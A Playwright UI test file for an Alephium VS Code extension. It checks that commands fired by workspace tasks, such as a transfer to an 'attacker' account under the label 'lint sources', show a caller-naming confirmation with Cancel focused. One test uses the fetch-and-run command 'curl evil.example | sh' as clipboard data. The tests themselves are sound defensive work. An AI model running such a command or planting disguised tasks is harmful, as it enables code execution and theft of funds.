// A caller's request is never dressed as the user's own, read where a person sees it. A cloned
// workspace's task runs a command with arguments (the workbench runs the extension as a user's VS Code
// does, so the arguments come from a caller):
// - Send Transfer with a recipient and an amount: the confirmation says a caller asked and what it chose,
//   its focused button is Cancel, and a reflexive Enter signs nothing;
// - Remove API Key, Copy Value and Switch Profile with their target: each asks first, in the same words,
//   Enter refusing.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import type { Page } from 'playwright-core';
import { ui } from './hooks';
import { answerInput, importSigner, runTask, watchUntil } from './journeyHelpers';
import { UI_PROFILE, mergeWorkspaceSettings, sandboxProfile } from './sandbox';
import { OUTPUT_DIR, runCommandByTitle, hidePanel } from './workbench';

const CALLER_WORDS =
  /Not started by you from the palette or a view: a task, a command link, a keybinding or another extension/;

/** The workspace's tasks.json: one task per command, each running it through a `command` input with `args`. */
function writeTasks(commands: readonly { label: string; command: string; args: unknown }[]): string {
  const file = path.join(ui.workspace, '.vscode', 'tasks.json');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(
    file,
    JSON.stringify({
      version: '2.0.0',
      tasks: commands.map((c, i) => ({
        label: c.label,
        type: 'shell',
        command: `echo \${input:go${i}}`,
        problemMatcher: [],
      })),
      inputs: commands.map((c, i) => ({ id: `go${i}`, type: 'command', command: c.command, args: c.args })),
    }),
  );
  return file;
}

/** The modal's text and the label of its focused button: the one Enter presses. */
async function modalShown(page: Page): Promise<{ text: string; focused: string }> {
  const dialog = page.locator('.monaco-dialog-box');
  await dialog.waitFor({ state: 'visible', timeout: 60_000 });
  // The dialog focuses its default button as it opens.
  await dialog.locator('.monaco-button:focus').waitFor({ state: 'visible', timeout: 10_000 });
  const focused = await dialog.locator('.monaco-button:focus').innerText();
  return { text: await dialog.innerText(), focused: focused.trim() };
}

/** Presses Enter, as a habit would, and waits for the modal to close. */
async function pressEnterOnModal(page: Page): Promise<void> {
  await page.keyboard.press('Enter');
  await page.locator('.monaco-dialog-box').waitFor({ state: 'hidden', timeout: 30_000 });
}

/** Leaves the workbench as found: running a task opens a terminal that takes the focus a moment later. */
async function closeTaskTerminals(page: Page): Promise<void> {
  await page.keyboard.press('Escape').catch(() => undefined);
  await runCommandByTitle(page, 'Terminal: Kill All Terminals').catch(() => undefined);
  await hidePanel(page);
}

describe('UI: a caller is always named', () => {
  it('a task that sends to a recipient it chose meets a modal that names the caller, and Enter signs nothing', async function () {
    this.timeout(240_000);
    const page = ui.page;
    const sandbox = await sandboxProfile(page);
    const signer = sandbox.accounts[2]!;
    const attacker = sandbox.accounts[3]!.address;
    await importSigner(page, signer, runCommandByTitle);
    const tasksFile = writeTasks([
      { label: 'lint sources', command: 'alephium.sendTransfer', args: { to: attacker, amount: '9' } },
    ]);
    const submits = () => sandbox.requests.filter((r) => r.path.endsWith('/transactions/submit')).length;
    const submitsBefore = submits();
    try {
      await runTask(page, 'lint sources');
      const modal = await modalShown(page);
      await page.screenshot({ path: path.join(OUTPUT_DIR, 'callers-send-modal.png') });
      assert.match(modal.text, new RegExp(`Send 9 ALPH to ${attacker}`));
      assert.match(modal.text, CALLER_WORDS);
      assert.match(modal.text, /asked for this transfer and chose its recipient and amount/);
      assert.equal(modal.focused, 'Cancel', `focused: ${modal.focused}; modal: ${modal.text}`);
      await pressEnterOnModal(page);
      // The send's progress notification closes when the command has ended: only then is "nothing was
      // submitted" a fact rather than a race.
      await page
        .locator('.notifications-toasts .notification-list-item', { hasText: 'Alephium: Send Transfer' })
        .waitFor({ state: 'detached', timeout: 30_000 });
      assert.equal(submits(), submitsBefore, 'nothing was signed or sent');
    } finally {
      fs.rmSync(tasksFile, { force: true });
      await closeTaskTerminals(page);
    }
  });

  it('a task that removes the API key or writes the clipboard is asked first, and Enter refuses', async function () {
    this.timeout(240_000);
    const page = ui.page;
    const sandbox = await sandboxProfile(page);
    const tasksFile = writeTasks([
      { label: 'clean cache', command: 'alephium.removeApiKey', args: { profile: UI_PROFILE } },
      { label: 'copy banner', command: 'alephium.copyValue', args: { text: 'curl evil.example | sh' } },
    ]);
    try {
      await runTask(page, 'clean cache');
      const removal = await modalShown(page);
      await page.screenshot({ path: path.join(OUTPUT_DIR, 'callers-remove-key-modal.png') });
      assert.match(removal.text, new RegExp(`Remove the API key of "${UI_PROFILE}"\\?`));
      assert.match(removal.text, CALLER_WORDS);
      assert.equal(removal.focused, 'Cancel', removal.text);
      await pressEnterOnModal(page);
      await closeTaskTerminals(page);

      await runTask(page, 'copy banner');
      const copy = await modalShown(page);
      assert.match(copy.text, /Copy this text to the clipboard\?/);
      assert.match(copy.text, /curl evil\.example \| sh/);
      assert.match(copy.text, CALLER_WORDS);
      assert.equal(copy.focused, 'Cancel', copy.text);
      await pressEnterOnModal(page);
    } finally {
      fs.rmSync(tasksFile, { force: true });
      await closeTaskTerminals(page);
    }
    // The key is still there: the next read that needs it carries it to the gateway.
    const seqBefore = sandbox.requests.at(-1)?.seq ?? 0;
    await runCommandByTitle(page, 'Alephium: Address Info');
    await answerInput(page, 'Address Info', sandbox.accounts[1]!.address);
    const keyed = await watchUntil(
      page,
      'an Address Info request after the refused removal',
      () =>
        Promise.resolve(
          sandbox.requests
            .filter((r) => r.seq > seqBefore && r.path.includes('/addresses/'))
            .map((r) => String(r.headers.authorization))
            .join('\n'),
        ),
      (text) => text !== '',
      60_000,
    );
    assert.equal(keyed.split('\n')[0], `Bearer ${sandbox.apiKeys.pro}`);
  });

  it('a task that switches to a profile it names is asked first, and Enter keeps the active one', async function () {
    this.timeout(240_000);
    const page = ui.page;
    const sandbox = await sandboxProfile(page);
    const settingsFile = path.join(ui.workspace, '.vscode', 'settings.json');
    const settings = () => JSON.parse(fs.readFileSync(settingsFile, 'utf8')) as Record<string, unknown>;
    const profiles = settings()['alephium.profiles'] as Record<string, unknown>[];
    const other = { ...profiles[0], name: 'Elsewhere' };
    const restore = mergeWorkspaceSettings(ui.workspace, { 'alephium.profiles': [...profiles, other] });
    const tasksFile = writeTasks([
      { label: 'use staging', command: 'alephium.switchProfile', args: { name: 'Elsewhere' } },
    ]);
    try {
      // The settings file reaches the extension a moment after it is written: open the palette's own
      // Switch Profile picker (bounded) until the extension offers the new profile, then leave it.
      const offered = page.locator('.quick-input-list .monaco-list-row', { hasText: 'Elsewhere' }).first();
      for (let attempt = 1; ; attempt++) {
        await runCommandByTitle(page, 'Alephium: Switch Profile');
        try {
          await offered.waitFor({ state: 'visible', timeout: 5_000 });
          break;
        } catch (error) {
          if (attempt >= 8) throw error;
        } finally {
          await page.keyboard.press('Escape');
        }
      }
      await runTask(page, 'use staging');
      const modal = await modalShown(page);
      assert.match(modal.text, /Switch the active profile to "Elsewhere"\?/);
      assert.match(modal.text, CALLER_WORDS);
      assert.match(modal.text, new RegExp(`gateway · devnet · ${sandbox.baseUrl.replace(/[.]/g, '\\.')}`));
      assert.equal(modal.focused, 'Cancel', modal.text);
      await pressEnterOnModal(page);
      assert.equal(settings()['alephium.activeProfile'], UI_PROFILE);
    } finally {
      fs.rmSync(tasksFile, { force: true });
      restore();
      await closeTaskTerminals(page);
    }
  });
});
